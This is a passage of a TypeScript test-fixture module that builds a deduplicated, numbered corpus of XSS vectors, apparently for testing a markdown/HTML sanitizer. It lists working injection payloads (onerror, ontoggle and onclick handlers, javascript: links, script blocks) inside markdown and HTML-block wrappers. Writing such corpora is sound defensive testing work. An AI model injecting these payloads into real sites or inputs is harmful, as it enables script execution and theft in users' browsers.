    ['md/html-block-link', `<a href="javascript:${CALL}">\n\n*x ID*\n\n</a>`],
    ['md/link-then-html', `[x ID](https://example.org/)<img src=x onerror=${CALL}>`],
    ['md/emphasis-html', `*<img src=x onerror=${CALL}>*`],
    ['md/details-block', `<details open ontoggle=${CALL}>\n\n**x** ID\n\n</details>`],
    ['md/escaped-lt', `\\<img src=x onerror=${CALL}>`],
    ['md/entity-text', `&lt;script&gt;${CALL}&lt;/script&gt;`],
    ['md/html-block-script', `<script>\n${CALL}\n</script>`],
    ['md/html-block-comment', `<!--\n-->\n<img src=x onerror=${CALL}>`],
    ['md/setext-html', `<img src=x onerror=${CALL}>\n===`],
    ['md/ordered-start-injection', `1234567890123. item ID\n\n<ol start="1 onclick=${CALL}"><li>x</li></ol>`],
    ['md/footnote-like', `[^1]\n\n[^1]: javascript:${CALL}`],
    ['md/nested-brackets', `[[x ID](javascript:${CALL})](https://example.org/)`],
    ['md/link-in-code-title', `[\`x\` ID](https://example.org/ "<img src=x onerror=${CALL}>")`],
  ];
  return t;
}

// CommonMark only passes inline HTML through when it is a well-formed tag;
// soup such as `<img/src=x/onerror=...>` or an unclosed tag is escaped as text
// before the sanitizer ever sees it. A line starting with a block-level tag
// (`<div>`) opens an HTML block whose lines are passed through raw, so these
// variants hand the same soup to the sanitizer directly.
function htmlBlockTemplates(families: Template[]): Template[] {
  return families.map(([category, source]) => [`block/${category}`, `<div>\n${source}\n</div>`]);
}

function build(): XssVector[] {
  const soup = [...handlerTemplates().filter(([c]) => c.startsWith('handler-syntax/')), ...mutationTemplates(), ...malformedTemplates()];
  const templates: Template[] = [
    ...urlSinkTemplates(),
    ...handlerTemplates(),
    ...svgMathTemplates(),
    ...refreshBaseFormTemplates(),
    ...cssTemplates(),
    ...mutationTemplates(),
    ...malformedTemplates(),
    ...markdownTemplates(),
    ...htmlBlockTemplates(soup),
  ];
  const seen = new Set<string>();
  const vectors: XssVector[] = [];
  for (const [category, template] of templates) {
    if (seen.has(template)) continue;
    seen.add(template);
    const id = vectors.length + 1;
    const source = template
      .replaceAll('ID', String(id))
      .replace(B64_MARKER, (_m, text: string) => Buffer.from(text, 'utf8').toString('base64'));
    vectors.push({ id, category, source });
  }
  return vectors;
}

export const XSS_VECTORS: readonly XssVector[] = Object.freeze(build());

/** Top-level category (the part before the first slash) → number of vectors. */
export function countByCategory(vectors: readonly XssVector[] = XSS_VECTORS): Record<string, number> {
  const counts: Record<string, number> = {};
  for (const v of vectors) {
    const top = v.category.split('/')[0] ?? v.category;
    counts[top] = (counts[top] ?? 0) + 1;
  }
  return counts;
}
